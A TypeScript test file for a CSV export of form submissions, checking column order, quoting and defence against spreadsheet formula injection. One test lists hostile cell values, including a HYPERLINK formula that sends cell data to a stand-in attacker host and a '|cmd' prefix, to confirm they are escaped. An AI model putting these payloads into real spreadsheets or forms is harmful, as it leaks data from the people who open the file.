import { expect, test } from 'vitest'
import { inboxCsv } from './inbox-csv.ts'
import { sampleSubmission } from './sample-submission.ts'

function linesOf(csv: string) {
  return csv.replace('\uFEFF', '').split('\r\n')
}

test('one form has its own columns in the order of the form, and a spreadsheet reads it as UTF-8', () => {
  const csv = inboxCsv({ form: 'contact_requests', submissions: [sampleSubmission()] })
  expect(csv.startsWith('\uFEFF')).toBe(true)
  expect(linesOf(csv)).toEqual([
    '"Received","Status","Name","Email","Company","Phone","Interested in","Message","Page","Campaign","Notes","Last changed","Changed by","Id"',
    '"2026-11-21T18:00:00.123456+00:00","new","Ada Lovelace","ada@engines.example","","","","A role in Leeds.","/contact","","","","","0b6a3a52-8f1c-4d7c-9a10-2f8f2c3f1a11"',
    '',
  ])
})

test('several forms have what is common to them', () => {
  const csv = inboxCsv({
    form: null,
    submissions: [sampleSubmission({ campaign: { utm_source: 'news letter' } })],
  })
  expect(linesOf(csv)[0]).toContain('"Form","Name","Email","Company","Summary"')
  expect(linesOf(csv)[1]).toContain('"utm_source=news+letter"')
})

test('no cell begins what a spreadsheet would take for a formula', () => {
  const dangerous = [
    '=HYPERLINK("https://evil.example?"&A1)',
    '+44 20 7946 0000',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '  =1',
    '|cmd',
    '＝1+1',
    '\n=1',
  ]
  for (const summary of dangerous) {
    const csv = inboxCsv({ form: null, submissions: [sampleSubmission({ summary })] })
    expect(csv, JSON.stringify(summary)).toContain(`,"'${summary.replaceAll('"', '""')}",`)
  }
})

test('quotes, separators and line ends stay inside their cell', () => {
  const summary = 'He said "no"; then,\r\nleft\t=1'
  const csv = inboxCsv({ form: null, submissions: [sampleSubmission({ summary })] })
  expect(csv).toContain('"He said ""no""; then,\r\nleft\t=1"')
})

test('nothing found is a file with a head', () => {
  expect(linesOf(inboxCsv({ form: 'partner_messages', submissions: [] }))).toHaveLength(2)
})
